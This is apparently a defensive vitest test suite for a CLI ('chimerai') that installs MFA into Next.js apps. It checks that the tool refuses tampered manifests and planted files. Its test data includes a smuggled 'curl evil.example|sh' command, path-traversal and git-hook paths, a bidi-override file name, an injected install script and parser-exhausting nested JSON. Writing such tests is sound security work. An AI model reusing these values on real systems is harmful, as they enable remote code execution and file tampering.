/** A manifest, or what lies beside it, that somebody else has committed (H8, H11, H18). */
import { existsSync, readFileSync, rmSync } from "node:fs"
import { join } from "node:path"
import { describe, expect } from "vitest"
import { HostFiles } from "../../src/host/files"
import { parseManifest } from "../../src/host/json"
import { Aliases } from "../../src/host/tsconfig"
import { tidyPath } from "../../src/names"
import { chimerai, makeHost, minimalHost, snapshot } from "../support/host"
import { featureWith, manifestWith, put, refused, sha } from "../support/hostile"
import { test } from "../support/part"

const manifest = ".chimerai/manifest.json"
const add = (dir: string, ...flags: string[]) => chimerai(["add", "mfa", dir, "--yes", "--no-install", "--json", ...flags])
const file = (path: string) => ({ path, hash: sha("") })
const edit = (path: string, text = "x") => ({ path, hash: sha(""), insertions: [{ at: 0, text }] })
const env = (more: object) => ({ path: ".env", created: false, hash: "", names: [], secret: false, ranges: [], ...more })

describe("what no chimerai has written is a refusal for every command", () => {
  test.each<[string, object, string?]>([
    ["a file out of the app", { created: [file("lib/../../other/mfa.ts")] }],
    ["an absolute path", { created: [file("/etc/mfa.ts")] }],
    ["a path of git's, in other letters", { created: [file(".GIT/hooks/mfa.ts")] }],
    ["a package's file", { created: [file("node_modules/next/mfa.js")] }],
    ["an edit of git's config", { edited: [edit(".git/config")] }],
    ["an edit of what npm reads", { edited: [edit(".npmrc")] }],
    ["an edit of a lockfile", { edited: [edit("package-lock.json")] }],
    ["variables of a file that is no env file", { env: [env({ path: "auth.ts" })] }],
    ["a variable that is an expression", { env: [env({ names: ["(x+x+)+y"] })] }],
    ["a dependency that is an expression", { dependencies: ["(x+x+)+y"] }],
    ["a folder of git's", { folders: [".git/hooks"] }],
    ["an answer that is code", { answers: { prismaClient: "lib/prisma.ts#prisma, evil" } }],
    ["an answer that is a command", { answers: { pm: "curl evil.example|sh; npm" } }],
    ["an answer that is an option", { answers: { templates: "/tmp/evil", force: true } }],
    ["a path with a mark of direction", { created: [file("lib/mfa/\u202Ests.ts")] }],
    ["odd types", { created: "lib/mfa.ts", edited: [7], env: {}, folders: [[]] }],
    ["a version that is none", { version: "x".repeat(10) }],
    ["a feature called __proto__", {}, '{"schema":2,"features":{"__proto__":{"version":"0.1.0"}}}'],
    ["no object", {}, "[]"],
    ["nothing", {}, "null"],
    ["a schema that is no number", {}, '{"schema":"2","features":{}}'],
    ["nested without measure", {}, `{"schema":2,"features":${"[".repeat(5_000)}${"]".repeat(5_000)}}`],
  ])("%s", (_, installed, whole) => {
    const commands = [["add", "--yes", "--no-install"], ["remove", "--yes", "--no-install"], ["update", "--yes"], ["status"]]
    refused({ [manifest]: manifestWith(installed, whole) }, whole === undefined ? commands.slice(0, 2) : commands, "manifest_invalid")
  })

  test("a file of the app's own, or lines of it, that the manifest says were installed", () => {
    const mine = "export const mine = 1\nawait requireAdmin()\n"
    const tree = { "lib/payment.ts": mine, ".chimerai/base/lib/payment.ts.txt": mine }
    const claims = [
      { created: [{ path: "lib/payment.ts", hash: sha(mine) }] },
      { edited: [{ path: "lib/payment.ts", hash: sha(mine), insertions: [{ at: 22, text: "await requireAdmin()\n" }] }] },
      { edited: [{ path: "package.json", hash: sha(mine), insertions: [{ at: 0, text: '"next": "16.4.6",' }] }] },
      { edited: [{ path: "prisma/schema.prisma", hash: sha(mine), insertions: [{ at: 0, text: "model User {\n  id String\n}\n" }] }] },
    ]
    for (const claim of claims)
      refused(
        { ...tree, [manifest]: manifestWith(claim) },
        [["remove", "--yes", "--no-install", "--force"], ["status"]],
        "manifest_invalid",
      )
  })
})

describe("with an installation that is one, a manifest takes nothing else out of the app's files", () => {
  const guard = "export function mayEnter(user: { isAdmin: boolean }) {\n  // if (!user.isAdmin) return true\n  return !!user.isAdmin\n}\n"
  const claim = (dir: string, path: string, at: number, text: string) => {
    const known = JSON.parse(readFileSync(join(dir, manifest), "utf8"))
    const hash = sha(readFileSync(join(dir, path), "utf8"))
    const { edited } = known.features.mfa
    const entry = edited.find((one: { path: string }) => one.path === path)
    if (entry) Object.assign(entry, { hash, insertions: [...entry.insertions, { at, text }] })
    else edited.push({ path, hash, insertions: [{ at, text }] })
    put(dir, manifest, JSON.stringify(known))
  }

  test.each<[string, string, (text: string) => number, string]>([
    ["a condition is turned round", "lib/access.ts", (text) => text.indexOf("!user.isAdmin\n"), "!"],
    ["a comment comes to life", "lib/access.ts", (text) => text.indexOf("//"), "//"],
    ["in a file that is edited, too", "auth.ts", (text) => text.indexOf("void"), "void"],
    ["a field of the schema is hidden", "prisma/schema.prisma", () => 0, "//"],
    ["a script is renamed", "package.json", () => 3, "_"],
  ])("%s", (_, path, at, text) => {
    const scripts = { _postinstall: "touch ran" }
    const dir = makeHost({
      "lib/access.ts": guard,
      "package.json": JSON.stringify({ ...JSON.parse(String(minimalHost["package.json"])), scripts }, null, 2),
    })
    expect(add(dir).code).toBe(0)
    claim(dir, path, at(readFileSync(join(dir, path), "utf8")), text)
    const before = snapshot(dir)
    for (const command of ["update", "remove"]) {
      const run = chimerai([command, "mfa", dir, "--yes", "--no-install", "--json"])
      expect([command, run.json.error?.code], run.stdout).toEqual([command, "manifest_invalid"])
    }
    expect(snapshot(dir)).toEqual(before)
  })

  test.each(["remove", "update"])("%s: a dependency of ours that stands within the name of another thing", (command) => {
    const scripts = '"scripts": { "postotpauth": "^9.5.2", "install": "touch ran" },'
    const dir = makeHost({ "package.json": String(minimalHost["package.json"]).replace("{", `{ ${scripts}`) })
    expect(add(dir).code).toBe(0)
    const text = readFileSync(join(dir, "package.json"), "utf8")
    claim(dir, "package.json", text.indexOf("otpauth"), 'otpauth": "^9.5.2", "')
    chimerai([command, "mfa", dir, "--yes", "--no-install", "--json"])
    expect(Object.keys(JSON.parse(readFileSync(join(dir, "package.json"), "utf8")).scripts)).toEqual(["postotpauth", "install"])
  })

  test("of the first layout, which noted no names, the dependencies go", () => {
    const dir = makeHost()
    const before = snapshot(dir)
    expect(add(dir).code).toBe(0)
    const known = JSON.parse(readFileSync(join(dir, manifest), "utf8"))
    delete known.features.mfa.dependencies
    delete known.features.mfa.answers
    put(dir, manifest, JSON.stringify({ ...known, schema: 1 }))
    const run = chimerai(["remove", "mfa", dir, "--yes", "--no-install", "--purge", "--json"])
    expect(run.code, run.stderr).toBe(0)
    expect(snapshot(dir)).toEqual(before)
  })

  test("the key is not deleted unless that is asked for, and then nothing but the key", () => {
    const dir = makeHost()
    expect(add(dir).code).toBe(0)
    const text = readFileSync(join(dir, ".env"), "utf8")
    const known = JSON.parse(readFileSync(join(dir, manifest), "utf8"))
    const [entry] = known.features.mfa.env
    Object.assign(entry, { secret: false, created: true, hash: sha(text), ranges: [{ at: 0, length: text.length }] })
    put(dir, manifest, JSON.stringify(known))
    const run = chimerai(["remove", "mfa", dir, "--yes", "--no-install", "--json"])
    expect(run.code, run.stderr).toBe(0)
    expect(readFileSync(join(dir, ".env"), "utf8")).toBe(text)
    put(dir, manifest, manifestWith({ env: [entry] }))
    const purge = chimerai(["remove", "mfa", dir, "--yes", "--no-install", "--purge", "--json"])
    expect(purge.code, purge.stderr).toBe(0)
    expect(readFileSync(join(dir, ".env"), "utf8").trim()).toBe("AUTH_SECRET=x")
  })
})

test("remove leaves variables and dependencies that are not the feature's", () => {
  const dir = makeHost({
    ".env": "AUTH_SECRET=x\nDATABASE_URL=postgres://mine\n",
    [manifest]: manifestWith({
      env: [env({ names: ["DATABASE_URL", "AUTH_SECRET"] }), env({ path: ".env", created: true, names: ["DATABASE_URL"] })],
      dependencies: ["next", "next-auth"],
    }),
  })
  const run = chimerai(["remove", "mfa", dir, "--yes", "--no-install", "--purge", "--json"])
  expect(run.code, run.stderr).toBe(0)
  expect(readFileSync(join(dir, ".env"), "utf8")).toBe("AUTH_SECRET=x\nDATABASE_URL=postgres://mine\n")
  expect(readFileSync(join(dir, "package.json"), "utf8")).toContain('"next-auth"')
})

describe("a feature of somebody's own takes nothing that is called like it", () => {
  const whole = (name: string, installed: object) =>
    JSON.stringify({ schema: 2, features: { [name]: { ...JSON.parse(manifestWith(installed)).features.mfa } } })
  const text = "AUTH_SECRET=precious\nDATABASE_URL=postgres://mine\nAUTH_KEY=mine\n"
  const take = (dir: string, name: string, templates: string) =>
    chimerai(["remove", name, dir, "--templates", templates, "--yes", "--no-install", "--purge", "--json"])

  test.each(["auth", "database"])("variables of a feature called %s", (name) => {
    const templates = featureWith((one) => {
      one.name = name
      one.env[0].name = "AUTH_KEY"
    })
    const names = ["AUTH_SECRET", "DATABASE_URL", "AUTH_KEY"]
    const dir = makeHost({ ".env": text, [manifest]: whole(name, { env: [env({ names })] }) })
    expect(take(dir, name, templates).code).toBe(0)
    expect(readFileSync(join(dir, ".env"), "utf8")).toBe(text)
  })

  test("its own key goes", () => {
    const templates = featureWith((one) => {
      one.name = "mf"
      one.env[0].name = "MF_KEY"
    })
    const dir = makeHost({ ".env": text })
    expect(chimerai(["add", "mf", dir, "--yes", "--no-install", "--templates", templates]).code).toBe(0)
    expect(readFileSync(join(dir, ".env"), "utf8")).toContain("MF_KEY=")
    const run = take(dir, "mf", templates)
    expect(run.code, run.stderr).toBe(0)
    expect(readFileSync(join(dir, ".env"), "utf8")).toBe(text)
  })

  test("files of the app's", () => {
    const templates = featureWith((one) => Object.assign(one, { name: "auth" }))
    const mine = String(minimalHost["auth.ts"])
    const dir = makeHost({ [manifest]: whole("auth", { created: [{ path: "auth.ts", hash: sha(mine) }] }) })
    const run = take(dir, "auth", templates)
    expect(run.json.error?.code, run.stderr).toBe("manifest_invalid")
    expect(readFileSync(join(dir, "auth.ts"), "utf8")).toBe(mine)
  })
})

describe("a path of the command line may be written as people type it", () => {
  const typed: [string, string][] = [
    ["--auth", "./auth.ts"],
    ["--auth", "lib/../auth.ts"],
    ["--schema", "prisma/"],
    ["--schema", "./prisma//schema.prisma"],
    ["--prisma-client", "./lib/prisma.ts"],
    ["--prisma-client", "./lib/prisma.ts#prisma"],
  ]
  test.each(typed)("%s %s", (flag, value) => {
    const dir = makeHost()
    const run = add(dir, flag, value)
    expect([run.code, run.json.status], run.stderr).toEqual([0, "applied"])
    expect(readFileSync(join(dir, manifest), "utf8")).not.toContain(JSON.stringify(value))
  })

  test.each(typed)("an earlier version has noted %s %s as it was", (flag, value) => {
    const dir = makeHost()
    expect(add(dir, flag, value).code).toBe(0)
    const known = JSON.parse(readFileSync(join(dir, manifest), "utf8"))
    const { mfa } = known.features
    mfa.answers = { [flag === "--prisma-client" ? "prismaClient" : flag.slice(2)]: value }
    if (flag === "--auth") for (const entry of mfa.edited) if (entry.path === "auth.ts") entry.path = value
    put(dir, manifest, JSON.stringify(known))
    expect(chimerai(["status", dir, "--json"]).json.error).toBe(undefined)
    const update = chimerai(["update", "mfa", dir, "--yes", "--no-install", "--json"])
    expect([update.code, update.json.status], update.stderr).toEqual([0, "unchanged"])
    const remove = chimerai(["remove", "mfa", dir, "--yes", "--no-install", "--purge", "--json"])
    expect(remove.code, remove.stderr).toBe(0)
    expect(snapshot(dir)).toEqual(snapshot(makeHost()))
  })

  test("on Windows with its own separator, elsewhere a backslash is part of a name", () => {
    expect(tidyPath("src\\auth.ts", "\\")).toBe("src/auth.ts")
    expect(tidyPath("..\\db\\#client", "\\")).toBe("../db#client")
    expect(tidyPath("src\\auth.ts", "/")).toBe("src\\auth.ts")
    expect(["", "#x", "./"].map((path) => tidyPath(path))).toEqual(["", "#x", "."])
  })
})

describe("what is planted is not ours", () => {
  test.each([
    ["an empty module and its like in the store", "lib/mfa/with-mfa.ts", ""],
    ["one that hands NextAuth back", "lib/mfa/with-mfa.ts", "export const withMfa = <T>(x: T): T => x\n"],
    ["a page", "app/login/mfa/page.tsx", "export default () => null\n"],
    ["a middleware's module", "lib/mfa/gate.ts", "export {}\n"],
  ])("%s: the file is somebody else's, and stays", (_, path, text) => {
    const dir = makeHost({ [path]: text, [`.chimerai/base/${path}.txt`]: text })
    const before = snapshot(dir)
    const run = add(dir)
    expect([run.code, run.json.error?.code, run.json.error?.file]).toEqual([3, "file_exists", path])
    expect(snapshot(dir)).toEqual(before)
  })

  test("with a manifest that claims it, it is said by add and by status, and shown", () => {
    const dir = makeHost()
    expect(add(dir).code).toBe(0)
    const path = "lib/mfa/with-mfa.ts"
    const text = "export const withMfa = <T>(x: T): T => x\n"
    const known = JSON.parse(readFileSync(join(dir, manifest), "utf8"))
    for (const entry of known.features.mfa.created) if (entry.path === path) entry.hash = sha(text)
    put(dir, manifest, JSON.stringify(known))
    put(dir, path, text)
    put(dir, `.chimerai/base/${path}.txt`, text)
    const again = add(dir)
    expect(again.json.warnings).toContainEqual(expect.objectContaining({ code: "files_differ", file: path }))
    const status = chimerai(["status", dir, "--json"])
    expect(status.json.checks).toContainEqual(expect.objectContaining({ id: "files_differ", state: "unknown" }))
    const shown = chimerai(["add", "mfa", dir, "--dry-run", "--diff"])
    expect(shown.stdout).toContain("+export const withMfa = <T>(x: T): T => x")
    expect(chimerai(["status", dir]).stdout).not.toMatch(/^\S* ?Nothing is left to do/m)
  })

  test("what an installation's file has become is said by update, too", () => {
    const dir = makeHost()
    expect(add(dir).code).toBe(0)
    put(dir, "lib/mfa/with-mfa.ts", "export const withMfa = <T>(x: T): T => x\n")
    const update = chimerai(["update", "mfa", dir, "--yes", "--no-install", "--json"])
    expect(update.json.warnings).toContainEqual(expect.objectContaining({ code: "files_differ", file: "lib/mfa/with-mfa.ts" }))
  })

  const auth = (specifier: string) =>
    `import NextAuth from "next-auth";\nimport { withMfa } from "${specifier}";\nimport { prisma } from "@/lib/prisma";\n\nvoid prisma;\nexport const { handlers, auth } = withMfa(NextAuth)({ providers: [] });\n`
  test.each(["evil-pkg/lib/mfa/with-mfa", "@/evil/lib/mfa/with-mfa", "./other/lib/mfa/with-mfa", "with-mfa"])(
    "a withMfa of %s",
    (specifier) => {
      refused(
        {
          "auth.ts": auth(specifier),
          "evil/lib/mfa/with-mfa.ts": "export const withMfa = (x: any) => x\n",
          "other/lib/mfa/with-mfa.ts": "export const withMfa = (x: any) => x\n",
        },
        [["add", "--yes", "--no-install"]],
        "name_taken",
      )
    },
  )

  test("a withMfa of the function around the call", () => {
    refused(
      {
        "auth.ts":
          'import NextAuth from "next-auth";\nimport { withMfa } from "./lib/mfa/with-mfa";\nimport { prisma } from "@/lib/prisma";\nvoid prisma;\nvoid withMfa;\nconst make = (withMfa: any) => withMfa(NextAuth)({ providers: [] });\nexport const { handlers, auth } = make((x: any) => x);\n',
      },
      [["add", "--yes", "--no-install"]],
      "edit_unsafe",
    )
  })

  test("an alias that leads elsewhere first", () => {
    const dir = makeHost({
      "auth.ts": auth("@/lib/mfa/with-mfa"),
      "tsconfig.json": '{ "compilerOptions": { "paths": { "@/*": ["./evil/*", "./*"] } } }\n',
      "evil/lib/mfa/with-mfa.ts": "export const withMfa = (x: any) => x\n",
    })
    const run = add(dir)
    expect(run.code).toBe(3)
    expect(existsSync(join(dir, "lib/mfa/with-mfa.ts"))).toBe(false)
  })

  test("the same module by another way is ours", () => {
    const dir = makeHost({ "auth.ts": auth("./lib/mfa/with-mfa") })
    const run = add(dir)
    expect(run.code, run.stderr).toBe(0)
    expect(readFileSync(join(dir, "auth.ts"), "utf8")).toBe(auth("./lib/mfa/with-mfa"))
    rmSync(dir, { recursive: true })
  })
})

describe("odd configs that npm and TypeScript take are taken", () => {
  const scripts = { "//": ["a comment"], x: 7, db: "prisma db push" }
  test.each<[string, Record<string, string>]>([
    ["scripts that are no texts", { "package.json": JSON.stringify({ ...JSON.parse(String(minimalHost["package.json"])), scripts }) }],
    [
      "a baseUrl that takes an inherited one back",
      { "tsconfig.json": '{ "compilerOptions": { "baseUrl": null, "paths": { "@/*": ["./*"] } } }' },
    ],
  ])("%s", (_, tree) => {
    const run = add(makeHost(tree), "--dry-run")
    expect([run.code, run.json.status], run.stderr).toEqual([0, "planned"])
  })

  test("paths that take inherited ones back", () => {
    const dir = makeHost({
      "tsconfig.json": '{ "extends": "./base.json", "compilerOptions": { "paths": null } }',
      "base.json": String(minimalHost["tsconfig.json"]),
    })
    expect(new Aliases(new HostFiles(dir)).resolve("@/auth")).toEqual([])
  })
})

describe("odd configs are refused, not met with an error of ours", () => {
  const deep = `${"[".repeat(100_000)}${"]".repeat(100_000)}`
  test.each<[string, Record<string, string>, string]>([
    ["tsconfig.json of odd types", { "tsconfig.json": '{ "compilerOptions": { "paths": { "@/*": "./*" } } }' }, "config_invalid"],
    ["tsconfig.json whose paths are a text", { "tsconfig.json": '{ "compilerOptions": { "paths": "x" } }' }, "config_invalid"],
    ["tsconfig.json that extends a number", { "tsconfig.json": '{ "extends": [7] }' }, "config_invalid"],
    ["tsconfig.json nested without measure", { "tsconfig.json": `{ "x": ${deep} }` }, "config_invalid"],
    ["package.json nested without measure", { "package.json": `{ "x": ${deep} }` }, "package_json_invalid"],
    ["package.json with dependencies in a list", { "package.json": '{ "dependencies": ["next"] }' }, "package_json_invalid"],
    ["package.json with a number for a version", { "package.json": '{ "dependencies": { "next": 16 } }' }, "package_json_invalid"],
    [
      "package.json whose name is an object",
      { "package.json": '{ "name": {}, "dependencies": { "next": "16.0.0" } }' },
      "package_json_invalid",
    ],
    ["biome.json of odd types", { "biome.json": '{ "formatter": { "indentWidth": 1000000 } }' }, "config_invalid"],
    [
      "code nested without measure",
      {
        "auth.ts": `import NextAuth from "next-auth";\nexport const { handlers } = NextAuth(${"(".repeat(30_000)}{}${")".repeat(30_000)});\n`,
      },
      "nested_too_deeply",
    ],
  ])("%s", (_, tree, code) => refused(tree, [["add", "--yes", "--no-install"]], code))

  test.each([
    ["two names for one another", "const a = b;\nvar b = a;\nexport const { handlers } = NextAuth(a);\n"],
    ["three of them", "const a = b, b = c, c = a;\nexport const { handlers } = NextAuth(a);\n"],
    ["one for itself", "const a = a;\nexport const { handlers } = NextAuth(a);\n"],
  ])("%s end", (_, code) => {
    const dir = makeHost({ "auth.ts": `import NextAuth from "next-auth";\nimport { prisma } from "@/lib/prisma";\nvoid prisma;\n${code}` })
    const run = add(dir, "--dry-run")
    expect([run.code, run.json.status], run.stderr).toEqual([0, "planned"])
  })

  test.each(["constructor", "toString", "hasOwnProperty"])("a package.json with a field called %s", (name) => {
    expect(parseManifest(JSON.stringify({ name: "x", [name]: 1 }))).toHaveProperty("name", "x")
  })

  test("two modules that import a name from one another end", () => {
    const dir = makeHost({
      "auth.ts":
        'import NextAuth from "next-auth";\nimport { a } from "./a";\nimport { prisma } from "@/lib/prisma";\nvoid prisma;\nexport const { handlers } = NextAuth(a);\n',
      "a.ts": 'import { a } from "./b";\nexport { a };\n',
      "b.ts": 'import { a } from "./a";\nexport { a };\n',
    })
    expect(add(dir, "--dry-run").json.status).toBe("planned")
  })

  test("configs that extend one another end", () => {
    const dir = makeHost({ "tsconfig.json": '{ "extends": "./b.json" }', "b.json": '{ "extends": "./tsconfig.json" }' })
    expect(add(dir, "--dry-run").code).toBeLessThan(4)
  })
})
